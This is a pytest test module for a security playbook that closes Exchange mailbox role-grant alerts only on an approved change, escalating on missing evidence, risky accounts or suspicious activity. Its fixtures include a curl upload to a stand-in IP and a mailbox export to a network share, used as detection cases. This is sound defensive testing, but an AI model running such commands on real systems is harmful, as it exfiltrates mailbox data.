"""The verdict on a grant: closed only by an approved change, and never while anything is unknown."""

from collections.abc import Iterable, Mapping
from copy import deepcopy
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from fakes import fake_event, fake_incident, fake_policy, fake_sources, later_event
from hypothesis import given, settings
from hypothesis import strategies as st
from performing import ORGANISATION, performed

from playbooks.mailbox_role_grant import PLAYBOOK
from playbooks.mailbox_role_grant.evidence import Evidence
from playbooks.mailbox_role_grant.scenarios import CATALOGUE
from playbooks.mailbox_role_grant.scenarios.honest import APPROVED_MEMBER, APPROVED_ROLE
from playbooks.model import (
    Absent,
    Account,
    Close,
    DirectoryUser,
    Escalate,
    Found,
    Judgement,
    LoggedAlert,
    Lookup,
    ProcessEvent,
    Severity,
    Stance,
    Unavailable,
)
from playbooks.scenarios import Scenario
from simulator.activity.sequences import Sequence

TENANT: dict[str, Any] = ORGANISATION.tenant()
CHANGES = "RoleGrantChanges"
OUTAGE = Unavailable("test", "the service did not answer")
METHODS = (
    "process_events",
    "process_events_with",
    "first_event_after",
    "alerts_naming",
    "closes_since",
    "user_by_upn",
    "groups_of",
    "roles_of",
    "risk_of",
    CHANGES,
)


async def gathered(
    sequence: Sequence,
    *,
    tenant: Mapping[str, Any] = TENANT,
    broken: Iterable[str] = (),
    complete: bool = True,
    accounts: Iterable[Account] = (),
    alerts: Iterable[LoggedAlert] = (),
    closes: int = 0,
) -> Evidence:
    """Evidence on one sequence alone, six hours after it."""
    events = [fake_event(row) for row in sequence.rows]
    start, end = events[0].time, events[-1].time
    later = [later_event(end + timedelta(minutes=61))] if complete else []
    incident = fake_incident(
        hosts=[sequence.placement.machine.fqdn],
        start=start,
        end=end,
        accounts=accounts,
        rule_ids=PLAYBOOK.rule_ids,
    )
    sources = fake_sources(
        tenant,
        [*events, *later],
        asked_at=end + timedelta(hours=6),
        broken=frozenset(broken),
        alerts=alerts,
        closes=closes,
    )
    return await PLAYBOOK.gather(incident, sources, fake_policy(tenant, rule_ids=PLAYBOOK.rule_ids))


async def judged(scenario: Scenario, **around: Any) -> Judgement:
    """The judgement of a scenario in these circumstances."""
    return PLAYBOOK.decide(await gathered(performed(scenario)[0], **around))


async def party(sequence: Sequence, who: str) -> DirectoryUser:
    """The directory's user behind the granter or the grantee of an honest grant."""
    evidence = await gathered(sequence)
    (asked,) = (one for one in evidence.accounts if one.runner.is_upn == (who == "grantee"))
    (found,) = (answer for answer in (asked.by_sid, asked.by_name) if isinstance(answer, Found))
    return found.value


def codes(judgement: Judgement) -> set[str]:
    """Codes of everything that does not speak for a close."""
    return {reason.code for reason in judgement.verdict.reasons if reason.stance is not Stance.FOR}


def with_rows(**cells: str) -> dict[str, Any]:
    """The tenant with these cells in every row of the register."""
    tenant = deepcopy(TENANT)
    tenant["watchlists"][CHANGES] = [row | cells for row in tenant["watchlists"][CHANGES]]
    return tenant


# --- what closes -----------------------------------------------------------------------------------


@pytest.mark.parametrize("scenario", CATALOGUE.closable, ids=lambda one: one.name)
async def test_a_close_says_its_change_and_is_not_final_at_once(scenario: Scenario) -> None:
    """The row and who approved it are told; the window and the hold have to pass."""
    evidence = await gathered(performed(scenario)[0])
    judgement = PLAYBOOK.decide(evidence)

    assert isinstance(judgement.verdict, Close)
    assert all(
        "CHG4" in finding.covered_by and "change.board" in finding.covered_by
        for finding in judgement.briefing.findings
    )
    assert isinstance(evidence.window, Found)
    assert judgement.final_from == evidence.window.value.end + evidence.policy.hold
    assert () == judgement.briefing.steps


async def test_the_same_evidence_gives_the_same_judgement() -> None:
    """Byte for byte, whatever the order of the events."""
    evidence = await gathered(performed(APPROVED_MEMBER)[0])
    assert isinstance(evidence.events, Found)
    turned = replace(evidence, events=Found(tuple(reversed(evidence.events.value))))

    assert PLAYBOOK.decide(evidence) == PLAYBOOK.decide(turned)


# --- what is not known -----------------------------------------------------------------------------


@settings(deadline=None, max_examples=60)
@given(
    broken=st.sets(st.sampled_from(METHODS), min_size=1),
    scenario=st.sampled_from(CATALOGUE.closable),
)
async def test_nothing_closes_while_a_look_up_failed(broken: set[str], scenario: Scenario) -> None:
    """Any of them, alone or together: an escalation that a repeat may cure and that says what is unknown."""
    judgement = await judged(scenario, broken=broken)

    assert isinstance(judgement.verdict, Escalate)
    assert {"source_unavailable", "grant_missing"} & codes(judgement)


@settings(deadline=None, max_examples=60)
@given(
    lost=st.sets(
        st.sampled_from(("window", "events", "exports", "logs_reach", "alerts", "closes", "changes")),
        min_size=1,
    ),
    absent=st.booleans(),
    scenario=st.sampled_from(CATALOGUE.closable),
)
async def test_nothing_closes_without_a_required_item(
    lost: set[str], scenario: Scenario, *, absent: bool
) -> None:
    """Each item of the evidence taken away, as not answered or as not there."""
    evidence = await gathered(performed(scenario)[0])
    spoilt = {
        name: Absent("test") if absent and name in {"logs_reach", "changes", "events"} else OUTAGE
        for name in lost
    }

    assert isinstance(PLAYBOOK.decide(replace(evidence, **spoilt)).verdict, Escalate)  # type: ignore[arg-type]


@settings(deadline=None, max_examples=40)
@given(
    part=st.sampled_from(("by_sid", "by_name", "groups", "roles", "risk")),
    number=st.integers(0, 1),
    scenario=st.sampled_from(CATALOGUE.closable),
)
async def test_nothing_closes_while_an_account_is_not_known_whole(
    part: str, number: int, scenario: Scenario
) -> None:
    """Granter and grantee, each question put to the directory about them."""
    evidence = await gathered(performed(scenario)[0])
    one = evidence.accounts[number]
    answered = "by_sid" if part == "by_name" and one.by_sid is not None else part
    answered = "by_name" if part == "by_sid" and one.by_sid is None else answered
    accounts = tuple(
        replace(each, **{answered: OUTAGE}) if each is one else each for each in evidence.accounts
    )

    verdict = PLAYBOOK.decide(replace(evidence, accounts=accounts)).verdict
    assert isinstance(verdict, Escalate)
    assert verdict.retry_may_help


@pytest.mark.parametrize("dropped", [0, 1])
async def test_nothing_closes_where_an_account_was_not_looked_up(dropped: int) -> None:
    """An account that is missing from the answers is unknown, not harmless."""
    evidence = await gathered(performed(APPROVED_ROLE)[0])
    kept = tuple(one for number, one in enumerate(evidence.accounts) if number != dropped)

    assert isinstance(PLAYBOOK.decide(replace(evidence, accounts=kept)).verdict, Escalate)


async def test_an_account_that_is_not_one_user_is_told_once() -> None:
    """Groups, roles and risk hang on the account; what keeps them unread is the same cause."""
    evidence = await gathered(performed(APPROVED_ROLE)[0])
    several = Unavailable("directory", "ambiguous account: 2 users of that name", lasting=True)
    first, *others = evidence.accounts
    accounts = (replace(first, by_sid=several, by_name=several), *others)
    verdict = PLAYBOOK.decide(replace(evidence, accounts=accounts)).verdict
    unread = [reason.text for reason in verdict.reasons if several.cause in reason.text]

    assert [f"Not checked: account {first.runner.shown}: {several.cause}"] == unread


async def test_a_register_that_is_missing_is_not_checked() -> None:
    """No watchlist is no approval, and no reason to look for a wrong change."""
    tenant = deepcopy(TENANT)
    del tenant["watchlists"][CHANGES]
    judgement = await judged(APPROVED_ROLE, tenant=tenant)

    assert {"source_unavailable"} == codes(judgement)


async def test_logs_that_do_not_reach_far_enough_are_waited_for() -> None:
    """Not final before the ingestion allowance is over."""
    judgement = await judged(APPROVED_ROLE, complete=False)

    assert {"logs_incomplete"} == codes(judgement)
    assert judgement.final_from


# --- what is known against it ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cells", "code"),
    [
        ({"GranterSid": "S-1-5-21-1-2-3-4"}, "granter_not_approved"),
        ({"GranteeSid": "S-1-5-21-1-2-3-4"}, "grantee_not_approved"),
        ({"RoleOrGroup": "Mailbox Search"}, "role_not_approved"),
        ({"Hosts": "exch99.contoso.com"}, "host_not_bound"),
        ({"ValidTo": "2025-11-09T00:00:00Z"}, "row_expired"),
        ({"ValidFrom": "2026-11-09T00:00:00Z", "_updated": "2020-01-01T00:00:00Z"}, "row_expired"),
        ({"GranterSid": "S-1-5-21-1-2-3-4", "GranteeSid": "S-1-5-21-1-2-3-5"}, "change_not_found"),
        ({"ValidTo": "soon"}, "register_row_invalid"),
    ],
)
@pytest.mark.parametrize("scenario", CATALOGUE.closable, ids=lambda one: one.name)
async def test_a_change_has_to_fit_in_everything(
    scenario: Scenario, cells: dict[str, str], code: str
) -> None:
    """One cell that differs in every row leaves the grant open, and is named."""
    judgement = await judged(scenario, tenant=with_rows(**cells))

    assert isinstance(judgement.verdict, Escalate)
    assert code in codes(judgement)


@pytest.mark.parametrize("who", ["granter", "grantee"])
async def test_nobody_approves_his_own_change(who: str) -> None:
    """The approver is neither of the two, by whatever name."""
    user = await party(performed(APPROVED_ROLE)[0], who)
    first, _, last = user.display_name.partition(" ")
    cells = (
        user.mail.upper(),
        f"CONTOSO\\{user.sam_account_name}",
        user.display_name,
        f"{last}, {first}",
        f"head.of.it@contoso.com; {user.user_principal_name}",
        f"{user.display_name} <somebody@contoso.com>",
        f"approved by {user.sam_account_name}.",
    )
    for cell in cells:
        judgement = await judged(APPROVED_ROLE, tenant=with_rows(Approver=cell))
        assert {"row_self_approved", "grant_uncovered"} == codes(judgement), cell


@pytest.mark.parametrize("who", ["granter", "grantee"])
async def test_a_name_like_theirs_is_another_person(who: str) -> None:
    """A longer account name, and somebody who shares the last name."""
    user = await party(performed(APPROVED_ROLE)[0], who)
    last = user.display_name.rpartition(" ")[2]
    for cell in (f"{user.sam_account_name}2@contoso.com", f"x{user.mail}", f"Ida {last}"):
        judgement = await judged(APPROVED_ROLE, tenant=with_rows(Approver=cell))
        assert set() == codes(judgement), cell


async def test_a_row_of_the_last_day_does_not_count_yet() -> None:
    """Whoever can write to the watchlist gains nothing at once."""
    moment = fake_event(performed(APPROVED_ROLE)[0].rows[0]).time
    for updated in (moment - timedelta(hours=23), moment + timedelta(hours=1)):
        judgement = await judged(APPROVED_ROLE, tenant=with_rows(_updated=updated.isoformat()))

        assert {"register_row_recent"} == codes(judgement)


async def test_an_alert_of_another_rule_keeps_it_open() -> None:
    """On the host, the granter or the grantee, up to a day before."""
    sequence = performed(APPROVED_ROLE)[0]
    host = sequence.placement.machine.fqdn.lower()
    grantee = str(sequence.rows[0]["TargetProcessCommandLine"]).rpartition(" ")[2].strip('"').lower()
    for hosts, names in (({host}, ()), ((), {grantee})):
        alert = LoggedAlert(
            time=fake_event(sequence.rows[0]).time - timedelta(hours=2),
            system_alert_id="another",
            name="Web shell",
            product="Another product",
            rule_ids=frozenset(),
            host_names=frozenset(hosts),
            account_names=frozenset(names),
        )
        assert {"other_alerts"} == codes(await judged(APPROVED_ROLE, alerts=[alert]))


@pytest.mark.parametrize("who", ["granter", "grantee"])
@pytest.mark.parametrize(
    ("cells", "code"),
    [
        ({"accountEnabled": False}, "account_disabled"),
        ({"accountEnabled": None}, "source_unavailable"),
        ({"createdDateTime": None}, "source_unavailable"),
        ({"createdDateTime": "2025-11-01T08:00:00Z"}, "account_new"),
    ],
)
async def test_both_accounts_are_looked_at(who: str, cells: dict[str, Any], code: str) -> None:
    """Granter and grantee: enabled, not new, known whole."""
    sequence = performed(APPROVED_ROLE)[0]
    user = await party(sequence, who)
    tenant = deepcopy(TENANT)
    tenant["users"] = [row | cells if row["id"] == user.id else row for row in tenant["users"]]

    assert code in codes(await judged(APPROVED_ROLE, tenant=tenant))


@pytest.mark.parametrize("who", ["granter", "grantee"])
@pytest.mark.parametrize(
    ("level", "state", "code"),
    [
        ("high", "atRisk", "account_risky"),
        ("medium", "atRisk", "account_risky"),
        ("none", "confirmedCompromised", "account_risky"),
        ("hidden", "none", "source_unavailable"),
        ("low", "unknownFutureValue", "source_unavailable"),
    ],
)
async def test_risk_keeps_it_open(who: str, level: str, state: str, code: str) -> None:
    """Identity Protection's word on either account, a word that nobody knows included."""
    user = await party(performed(APPROVED_ROLE)[0], who)
    tenant = deepcopy(TENANT)
    tenant["riskyUsers"] = [{"id": user.id, "riskLevel": level, "riskState": state}]

    assert {code} == codes(await judged(APPROVED_ROLE, tenant=tenant))


async def test_a_granter_outside_the_groups_of_admins_is_told() -> None:
    """Named by the row, and no Exchange admin by the directory."""
    tenant = deepcopy(TENANT)
    tenant["settings"]["exchangeAdminGroups"] = ["Somebody Else"]

    assert {"granter_not_admin"} == codes(await judged(APPROVED_ROLE, tenant=tenant))


async def test_a_group_that_is_not_in_the_settings_is_not_known_to_hold_the_role() -> None:
    """Though the row names it."""
    tenant = deepcopy(TENANT)
    tenant["settings"]["exportRoleGroups"] = ["Somebody Else"]

    assert {"role_unknown"} == codes(await judged(APPROVED_MEMBER, tenant=tenant))


async def test_too_many_closes_keep_it_open() -> None:
    """Beyond the limit of a day."""
    assert {"close_limit"} == codes(await judged(APPROVED_ROLE, closes=99))


async def test_an_account_that_no_event_names_was_not_seen() -> None:
    """The incident speaks of somebody whose part is not in the log."""
    assert {"source_unavailable"} == codes(await judged(APPROVED_ROLE, accounts=[Account(name="ghost")]))


@pytest.mark.parametrize("events", [Found(()), Absent("process events")])
async def test_an_incident_without_a_grant_stays_open(events: Lookup[tuple[ProcessEvent, ...]]) -> None:
    """Nothing to cover is nothing proven."""
    evidence = await gathered(performed(APPROVED_ROLE)[0])
    judgement = PLAYBOOK.decide(replace(evidence, events=events))

    assert "grant_missing" in codes(judgement)


@pytest.mark.parametrize(
    "columns",
    [{"hosts": ()}, {"alerts": Found(())}, {"alerts": OUTAGE}],
    ids=["no host", "no alert", "alerts not read"],
)
async def test_an_incident_that_is_not_ready_is_asked_for_again(columns: dict[str, Any]) -> None:
    """Hosts and alerts may come later: the one gap is told, not what could not be asked for its sake."""
    evidence = await gathered(performed(APPROVED_ROLE)[0])
    incident = replace(evidence.incident, **columns)
    later = later_event(evidence.asked_at - timedelta(hours=1))
    sources = fake_sources(TENANT, [later], asked_at=evidence.asked_at)

    verdict = PLAYBOOK.decide(await PLAYBOOK.gather(incident, sources, evidence.policy)).verdict

    assert isinstance(verdict, Escalate)
    assert {"source_unavailable"} == {reason.code for reason in verdict.reasons}
    assert verdict.retry_may_help


async def test_an_export_elsewhere_by_the_grantee_is_told() -> None:
    """On another host, within the hour, under the grantee's name."""
    sequence = performed(APPROVED_ROLE)[0]
    evidence = await gathered(sequence)
    grant = fake_event(sequence.rows[0])
    grantee = grant.target_process_command_line.rpartition(" ")[2].strip('"').partition("@")[0]
    export = replace(
        grant,
        dvc_hostname="EXCH09",
        dvc_fqdn="EXCH09.contoso.com",
        actor_username=f"CONTOSO\\{grantee}",
        actor_user_id="",
        target_username="",
        target_user_id="",
        target_process_command_line=r"powershell -c New-MailboxExportRequest -Mailbox x -FilePath \\f\x.pst",
    )
    other = replace(export, actor_username="CONTOSO\\somebody.else")

    told = PLAYBOOK.decide(replace(evidence, exports=Found((export,))))
    assert {"export_nearby"} == codes(told)
    assert isinstance(told.verdict, Escalate)
    assert told.verdict.severity is Severity.HIGH
    assert set() == codes(PLAYBOOK.decide(replace(evidence, exports=Found((other,)))))


@pytest.mark.parametrize(
    ("runner", "counts"),
    [("", True), ("NT AUTHORITY\\SYSTEM", True), ("CONTOSO\\somebody.else", False)],
)
async def test_a_transfer_tool_counts_by_those_who_matter(runner: str, *, counts: bool) -> None:
    """By the granter (an empty name here) or by SYSTEM, and not by whoever sits at the desk."""
    sequence = performed(APPROVED_ROLE)[0]
    evidence = await gathered(sequence)
    grant = fake_event(sequence.rows[0])
    other = {"actor_username": runner, "actor_user_id": "", "target_username": "", "target_user_id": ""}
    tool = replace(
        grant, target_process_command_line="curl.exe -T x https://192.0.2.7/x", **(other if runner else {})
    )
    tool = replace(tool, target_process_name=r"C:\Windows\System32\curl.exe")
    judgement = PLAYBOOK.decide(replace(evidence, events=Found((grant, tool))))

    assert counts == ("upload_tool" in codes(judgement))
    assert counts != isinstance(judgement.verdict, Close)


@pytest.mark.parametrize("miss", CATALOGUE.near_misses, ids=lambda one: one.name)
async def test_each_near_miss_names_its_code_and_gives_next_steps(miss: Scenario) -> None:
    """Codes, a headline, and queries that are ready to run."""
    judgement = await judged(miss)

    assert isinstance(judgement.verdict, Escalate)
    assert set(miss.reasons) <= codes(judgement)
    assert judgement.briefing.steps
    assert 3 == len(judgement.briefing.queries)
    assert "stays open" in judgement.briefing.headline


@pytest.mark.parametrize("attack", CATALOGUE.attacks, ids=lambda one: one.name)
async def test_no_attack_closes_whatever_the_register_says(attack: Scenario) -> None:
    """Each names its codes, and the grant itself stays open."""
    judgement = await judged(attack)

    assert isinstance(judgement.verdict, Escalate)
    assert set(attack.reasons) <= codes(judgement)
